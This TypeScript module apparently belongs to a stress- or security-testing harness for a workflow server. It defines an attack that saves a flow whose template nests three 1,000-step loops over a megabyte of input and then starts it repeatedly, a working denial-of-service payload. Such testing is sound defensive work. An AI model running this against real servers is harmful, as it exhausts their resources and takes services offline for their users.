/** Expressions that render for ever. */
import { saveFlow, startFlow } from "../target.ts";
import { type Attack, repeat } from "./attack.ts";

const INPUT_CHARS = 1_000_000;

/** Starts a flow whose expression works through a megabyte a thousand million times, as often as the server takes it. */
export const endlessRenders: Attack = {
  name: "renders",
  async prepare(target) {
    const expression = "{% for i in 1..1000 %}{% for j in 1..1000 %}{% for k in 1..1000 %}" +
      "{{ inputs.text.replace('a', 'b').replace('c', 'd') | length }}{% endfor %}{% endfor %}{% endfor %}";
    await saveFlow(target, "endless", [
      "inputs: [{id: text, type: STRING}]",
      "tasks:",
      `  - {id: render, type: io.svc.plugin.core.debug.Return, format: "${expression}"}`,
    ]);
  },
  async run(settings, ready) {
    const text = "a".repeat(INPUT_CHARS);
    ready();
    await repeat(settings, 1, () => startFlow(settings.target, "endless", { text }).then(() => "started"));
  },
};
